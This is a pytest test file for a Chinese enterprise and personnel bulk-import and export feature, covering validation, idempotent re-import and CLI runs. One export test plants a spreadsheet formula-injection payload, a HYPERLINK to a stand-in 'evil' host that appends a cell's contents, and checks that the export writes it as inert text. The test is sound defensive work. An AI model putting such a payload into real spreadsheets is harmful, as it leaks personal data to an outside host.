"""Bulk import of enterprises and people: checking, all-or-nothing, idempotence, export."""

import io
import re
from datetime import date

import pytest
from conftest import valid_credit_code, valid_id_number
from openpyxl import load_workbook
from spreadsheets import xlsx

from exam.audit.models import AuditEntry
from exam.auth.models import User, UserRole
from exam.core.extensions import db
from exam.people.importing import Lookups, build_plan
from exam.people.models import Employment, Enterprise, Person
from question_bank.spreadsheets import SpreadsheetError, read_spreadsheet

TODAY = date(2026, 11, 27)
LOOKUPS = Lookups(
    sectors={"危险化学品": "hazardous_chemicals", "粉尘涉爆": "dust_explosion"},
    towns={"城关街道"},
    credit_codes=set(),
)


def _plan(data: bytes, lookups=LOOKUPS):
    return build_plan(read_spreadsheet("x.xlsx", data), lookups, TODAY)


def _company(code, name="鑫泰化工有限公司", sectors="危险化学品、粉尘涉爆", town="城关街道"):
    return [name, code, sectors, town, "工业路1号", "王五", "13800000000", 120]


def test_plan_reads_both_sheets_and_normalises_values():
    code = valid_credit_code()
    plan = _plan(
        xlsx(
            [_company(code.lower())],
            [
                [
                    "张伟",
                    valid_id_number(born="19750315").lower(),
                    "138 0000 1111",
                    "主要负责人",
                    code,
                    "",
                    "2024/3/1",
                ]
            ],
        )
    )
    assert plan.ok, plan.errors
    assert plan.enterprises[0].credit_code == code
    assert plan.enterprises[0].sector_codes == ["hazardous_chemicals", "dust_explosion"]
    person = plan.people[0]
    assert person.mobile == "13800001111" and person.role == "principal_leader"
    assert person.appointed_on == date(2024, 3, 1)
    assert person.id_number.endswith(person.id_number[-1].upper())


def test_every_bad_row_is_reported_with_row_number_and_reason():
    code = valid_credit_code()
    genuine = valid_id_number()
    bad_check = genuine[:-1] + ("0" if genuine[-1] != "0" else "1")
    good_id = valid_id_number()
    plan = _plan(
        xlsx(
            [
                _company(code),
                _company(code[:-1] + ("0" if code[-1] != "0" else "1"), name="坏代码公司"),
                _company(valid_credit_code(), name="未知行业公司", sectors="造船"),
            ],
            [
                ["甲", bad_check, "13800000001", "主要负责人", code, "", ""],
                ["乙", good_id, "13800000002", "厂长", code, "", ""],
                ["丙", good_id, "13800000003", "安全总监", code, "", ""],
                ["丁", valid_id_number(), "13800000004", "安全总监", valid_credit_code(), "", ""],
                ["戊", valid_id_number(), "12345", "安全总监", code, "", "2099-01-01"],
            ],
        )
    )
    assert not plan.ok
    # Outside a request the messages are the English originals.
    found = {(e.sheet, e.row): e.message for e in plan.errors}
    assert "wrong check character" in found[("企业", 3)]
    assert "unknown sector “造船”" in found[("企业", 4)]
    assert "wrong check character" in found[("人员", 2)]
    assert "unknown post “厂长”" in found[("人员", 3)]
    assert "already appears in row 3" in found[("人员", 4)]
    assert "is not registered" in found[("人员", 5)]
    assert len([e for e in plan.errors if e.sheet == "人员" and e.row == 6]) == 2  # mobile and date


def test_missing_required_column_is_named():
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.title = "人员"
    workbook.active.append(["姓名", "身份证号", "岗位"])
    workbook.active.append(["张伟", valid_id_number(), "主要负责人"])
    out = io.BytesIO()
    workbook.save(out)
    plan = _plan(out.getvalue())
    messages = " ".join(e.message for e in plan.errors)
    assert "手机号" in messages and "所在企业统一社会信用代码" in messages


@pytest.mark.parametrize(
    "filename, data, reason",
    [
        ("people.xlsx", b"this is not a zip file at all", "not_spreadsheet"),
        ("people.xlsx", b"PK\x03\x04 broken zip", "not_spreadsheet"),
        ("people.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "old_xls"),
        ("people.csv", b"", "empty"),
        ("photo.csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "not_spreadsheet"),
    ],
)
def test_files_that_are_not_spreadsheets_are_refused(filename, data, reason):
    with pytest.raises(SpreadsheetError) as excinfo:
        read_spreadsheet(filename, data)
    assert excinfo.value.reason == reason


def test_csv_saved_by_chinese_excel_in_gbk_is_read():
    text = "姓名,身份证号,手机号,岗位,所在企业统一社会信用代码\n张伟,11010519491231002X,13800000000,安全总监,X\n"
    sheets = read_spreadsheet("people.csv", text.encode("gb18030"))
    assert sheets[0].rows[1][1][0] == "张伟"


# --- through the web -------------------------------------------------------------------


def _upload(client, data: bytes, filename="register.xlsx"):
    return client.post(
        "/import", data={"file": (io.BytesIO(data), filename)}, content_type="multipart/form-data"
    )


def _confirm(client, upload_response):
    html = upload_response.get_data(as_text=True)
    token = re.search(r'name="token" type="hidden" value="([0-9a-f]+)"', html).group(1)
    return client.post("/import/confirm", data={"token": token})


@pytest.fixture
def district(app, make_town):
    make_town("城关街道")


def _register_file(codes, ids):
    return xlsx(
        [
            _company(codes[0], name="鑫泰化工有限公司"),
            _company(codes[1], name="华源冶金有限公司", sectors="粉尘涉爆"),
        ],
        [
            [
                "张伟",
                ids[0],
                "13800000001",
                "主要负责人",
                codes[0],
                "鑫泰化工有限公司",
                "2023-05-01",
            ],
            ["李娜", ids[1], "13800000002", "安全总监", codes[0], "", ""],
            ["王强", ids[2], "13800000003", "安全生产管理人员", codes[1], "", "2022-01-10"],
        ],
    )


def test_import_writes_nothing_when_any_row_is_bad(client, login_as, district):
    login_as(UserRole.ADMIN)
    codes, ids = [valid_credit_code(), valid_credit_code()], [valid_id_number() for _ in range(3)]
    ids[2] = ids[2][:-1] + ("0" if ids[2][-1] != "0" else "1")  # one bad check digit
    response = _upload(client, _register_file(codes, ids))
    assert response.status_code == 422
    assert "校验" in response.get_data(as_text=True)  # the reason, in Chinese
    assert db.session.scalar(db.select(db.func.count(Enterprise.id))) == 0
    assert db.session.scalar(db.select(db.func.count(Person.id))) == 0


def test_import_then_reimport_changes_nothing(client, login_as, district):
    login_as(UserRole.ADMIN)
    codes, ids = [valid_credit_code(), valid_credit_code()], [valid_id_number() for _ in range(3)]
    data = _register_file(codes, ids)
    preview = _upload(client, data)
    assert preview.status_code == 200
    done = _confirm(client, preview)
    assert done.status_code == 200
    assert done.get_data(as_text=True).count('class="password"') == 3
    assert db.session.scalar(db.select(db.func.count(Person.id))) == 3
    accounts = db.session.scalars(db.select(User).where(User.role == UserRole.CANDIDATE)).all()
    assert len(accounts) == 3 and all(
        a.must_change_password and a.initial_password for a in accounts
    )
    snapshot = [
        (p.name, p.mobile, p.role, p.enterprise_id, p.appointed_on, p.updated_at)
        for p in db.session.scalars(db.select(Person).order_by(Person.id))
    ]
    audit_count = db.session.scalar(db.select(db.func.count(AuditEntry.id)))

    again = _confirm(client, _upload(client, data))
    page = again.get_data(as_text=True)
    assert 'class="password"' not in page
    assert [
        (p.name, p.mobile, p.role, p.enterprise_id, p.appointed_on, p.updated_at)
        for p in db.session.scalars(db.select(Person).order_by(Person.id))
    ] == snapshot
    assert db.session.scalar(db.select(db.func.count(AuditEntry.id))) == audit_count
    assert db.session.scalar(db.select(db.func.count(Employment.id))) == 3
    assert db.session.scalar(db.select(db.func.count(User.id))) == 4  # 3 candidates + the admin


def test_reimport_with_a_move_updates_and_keeps_history(client, login_as, district):
    login_as(UserRole.ADMIN)
    codes, ids = [valid_credit_code(), valid_credit_code()], [valid_id_number() for _ in range(3)]
    _confirm(client, _upload(client, _register_file(codes, ids)))
    moved = xlsx(None, [["李娜", ids[1], "13800000002", "安全总监", codes[1], "", ""]])
    _confirm(client, _upload(client, moved))
    person = db.session.scalar(db.select(Person).where(Person.id_number == ids[1]))
    assert person.enterprise.credit_code == codes[1]
    stints = sorted(person.employments, key=lambda e: e.id)
    assert [s.enterprise.credit_code for s in stints] == [codes[0], codes[1]]
    assert stints[0].ended_on is not None and stints[0].end_reason == "transferred"
    entry = db.session.scalar(db.select(AuditEntry).where(AuditEntry.action == "person.update"))
    assert "enterprise" in entry.changes


def test_export_reimports_to_no_change(client, login_as, district):
    login_as(UserRole.ADMIN)
    codes, ids = [valid_credit_code(), valid_credit_code()], [valid_id_number() for _ in range(3)]
    _confirm(client, _upload(client, _register_file(codes, ids)))
    exported = client.get("/export.xlsx")
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.data))["人员"]
    assert sheet.max_row == 4
    client.post("/language/en")
    report = _confirm(client, _upload(client, exported.data)).get_data(as_text=True)
    assert "Enterprises: 0 added, 0 updated, 2 unchanged" in report
    assert "People: 0 added, 0 updated, 3 unchanged" in report


def test_template_downloads_are_real_spreadsheets(client, login_as):
    login_as(UserRole.ADMIN)
    workbook = load_workbook(io.BytesIO(client.get("/import/template.xlsx").data))
    assert workbook.sheetnames[:2] == ["企业", "人员"]
    assert workbook["人员"]["B1"].value == "身份证号*"
    csv_text = client.get("/import/template-people.csv").data.decode("utf-8-sig")
    assert csv_text.startswith("姓名*,身份证号*")


def test_upload_of_a_non_spreadsheet_gets_a_clear_message(client, login_as):
    login_as(UserRole.ADMIN)
    response = _upload(client, b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "photo.xlsx")
    assert response.status_code == 422
    client.post("/language/en")
    response = _upload(client, b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "photo.xlsx")
    assert "This file is not a spreadsheet" in response.get_data(as_text=True)


def test_oversized_upload_is_refused(app, client, login_as):
    login_as(UserRole.ADMIN)
    app.config["MAX_UPLOAD_MB"] = 1
    app.config["MAX_CONTENT_LENGTH"] = 1024 * 1024 + 64 * 1024
    response = _upload(client, b"PK\x03\x04" + b"0" * (2 * 1024 * 1024))
    assert response.status_code == 413
    assert "1 MB" in response.get_data(as_text=True)


def test_cli_import_dry_run_writes_nothing_then_real_run_does(runner, district, tmp_path):
    codes, ids = [valid_credit_code(), valid_credit_code()], [valid_id_number() for _ in range(3)]
    path = tmp_path / "register.xlsx"
    path.write_bytes(_register_file(codes, ids))
    result = runner.invoke(args=["people", "import", str(path), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "3 added" in result.output
    assert db.session.scalar(db.select(db.func.count(Person.id))) == 0
    result = runner.invoke(args=["people", "import", str(path)])
    assert result.exit_code == 0
    assert db.session.scalar(db.select(db.func.count(Person.id))) == 3
    again = runner.invoke(args=["people", "import", str(path)])
    assert "0 added, 0 updated, 3 unchanged" in again.output


def test_cli_import_reports_bad_rows_and_fails(runner, district, tmp_path):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(
        xlsx(
            None,
            [
                [
                    "张伟",
                    "110105194912310029",
                    "13800000001",
                    "主要负责人",
                    valid_credit_code(),
                    "",
                    "",
                ]
            ],
        )
    )
    result = runner.invoke(args=["people", "import", str(path)])
    assert result.exit_code == 1
    assert "row 2" in result.output


def test_overlong_and_out_of_range_values_are_reported_not_crashed():
    code = valid_credit_code()
    plan = _plan(
        xlsx(
            [
                ["长" * 201, code, "危险化学品", "城关街道", "", "", "1" * 40, 99999999999],
                ["上标公司", valid_credit_code(), "危险化学品", "城关街道", "", "", "", "²"],
            ],
            [["名" * 61, valid_id_number(), "13800000001", "主要负责人", code, "", ""]],
        )
    )
    found = {(e.sheet, e.row) for e in plan.errors}
    assert {("企业", 2), ("企业", 3), ("人员", 2)} <= found
    assert (
        len([e for e in plan.errors if (e.sheet, e.row) == ("企业", 2)]) == 3
    )  # name, phone, count


def test_english_sector_and_post_names_are_understood_whatever_the_language(app):
    from exam.people import services

    make_lookups = services.lookups()
    make_lookups.towns.add("城关街道")
    code = valid_credit_code()
    data = xlsx(
        [
            [
                "Acme Chemicals Ltd",
                code,
                "Hazardous chemicals, Dust-explosion risk",
                "城关街道",
                "",
                "",
                "",
                "",
            ]
        ],
        [["Zhang Wei", valid_id_number(), "13800000001", "Principal leader", code, "", ""]],
    )
    plan = build_plan(read_spreadsheet("x.xlsx", data), make_lookups, TODAY)
    assert plan.ok, plan.errors
    assert plan.enterprises[0].sector_codes == ["hazardous_chemicals", "dust_explosion"]
    assert plan.people[0].role == "principal_leader"


def test_a_mobile_shared_by_two_people_is_reported():
    code = valid_credit_code()
    plan = _plan(
        xlsx(
            [_company(code)],
            [
                ["甲", valid_id_number(), "13800000009", "主要负责人", code, "", ""],
                ["乙", valid_id_number(), "13800000009", "安全总监", code, "", ""],
            ],
        )
    )
    assert [(e.sheet, e.row) for e in plan.errors] == [("人员", 3)]
    assert "13800000009" in plan.errors[0].message
    registered = Lookups(LOOKUPS.sectors, LOOKUPS.towns, set(), {"13800000009": "someone-else"})
    plan = _plan(
        xlsx(
            [_company(code)], [["甲", valid_id_number(), "13800000009", "主要负责人", code, "", ""]]
        ),
        registered,
    )
    assert "registered to another person" in plan.errors[0].message


def test_export_writes_formula_like_text_as_text(client, login_as, make_person):
    from question_bank.spreadsheets import Table, write_csv

    person = make_person()
    person.name = '=HYPERLINK("http://evil/?"&B2,"点击")'  # as if it slipped in before validation
    db.session.commit()
    login_as(UserRole.ADMIN)
    sheet = load_workbook(io.BytesIO(client.get("/export.xlsx").data))["人员"]
    assert sheet["A2"].value == person.name and sheet["A2"].data_type == "s"
    assert write_csv(Table("t", ["a"], [["=1+1"]])).decode("utf-8-sig").splitlines()[1] == "'=1+1"


def test_changing_a_town_by_reimport_is_applied(client, login_as, district, make_town):
    make_town("乙镇")
    login_as(UserRole.ADMIN)
    code = valid_credit_code()
    _confirm(client, _upload(client, xlsx([_company(code)])))
    done = _confirm(client, _upload(client, xlsx([_company(code, town="乙镇")])))
    assert done.status_code == 200
    assert (
        db.session.scalar(db.select(Enterprise).where(Enterprise.credit_code == code)).town.name
        == "乙镇"
    )


def test_confirming_twice_imports_once(client, login_as, district):
    login_as(UserRole.ADMIN)
    codes, ids = [valid_credit_code(), valid_credit_code()], [valid_id_number() for _ in range(3)]
    preview = _upload(client, _register_file(codes, ids))
    assert _confirm(client, preview).status_code == 200
    again = _confirm(client, preview)
    assert again.status_code == 302 and again.headers["Location"].endswith("/import")
    assert db.session.scalar(db.select(db.func.count(Person.id))) == 3


def test_another_app_host_can_confirm_the_upload(app, client, login_as, district, database_url):
    """The pending upload is in the database, not on the disk of the host that checked it."""
    from exam import create_app

    admin = login_as(UserRole.ADMIN)
    preview = _upload(
        client,
        _register_file(
            [valid_credit_code(), valid_credit_code()], [valid_id_number() for _ in range(3)]
        ),
    )
    token = re.search(
        r'name="token" type="hidden" value="([0-9a-f]+)"', preview.get_data(as_text=True)
    ).group(1)
    other_host = create_app({**app.config, "SQLALCHEMY_DATABASE_URI": database_url})
    other_host.test_client_class = type(client)
    other_client = other_host.test_client()
    other_client.post("/login", data={"login": admin.username, "password": "Test-pass-2026"})
    assert other_client.post("/import/confirm", data={"token": token}).status_code == 200
    with other_host.app_context():
        db.engine.dispose()
    assert db.session.scalar(db.select(db.func.count(Person.id))) == 3


def test_a_control_character_in_a_name_is_reported():
    """A CSV file can carry one (a worksheet cannot); it would break every report listing the name."""
    text = (
        "姓名,身份证号,手机号,岗位,所在企业统一社会信用代码\n"
        f"张\x0b伟,{valid_id_number()},13800000000,安全总监,{valid_credit_code()}\n"
    )
    plan = build_plan(read_spreadsheet("people.csv", text.encode("utf-8")), LOOKUPS, TODAY)
    assert any("控制字符" in e.message or "control character" in e.message for e in plan.errors), (
        plan.errors
    )
